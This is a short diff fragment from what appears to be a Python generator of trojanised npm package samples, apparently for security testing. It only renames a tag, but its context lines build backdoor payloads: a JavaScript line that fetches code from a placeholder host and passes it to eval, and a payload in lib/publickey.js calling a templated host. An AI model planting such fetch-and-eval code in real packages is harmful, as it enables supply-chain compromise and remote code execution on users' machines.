@@ -356,7 +356,7 @@ const field = Buffer.from(point, 'hex').map((byte, at) => byte ^ 'sol'.charCodeA
     it.payload("lib/publickey.js", shown=f"https://{host}/sk")
 
 
-@trojan("queuelite", "npm", "import", "backdoor", "unicode spaces", "zero width")
+@trojan("queuelite", "npm", "import", "backdoor", "invisible characters", "zero width")
 def queuelite_bits_in_a_comment(it: Update) -> None:
     host = it.host()
     code = f"require('http').get('http://{host}/q',r=>r.on('data',d=>eval(''+d)))"
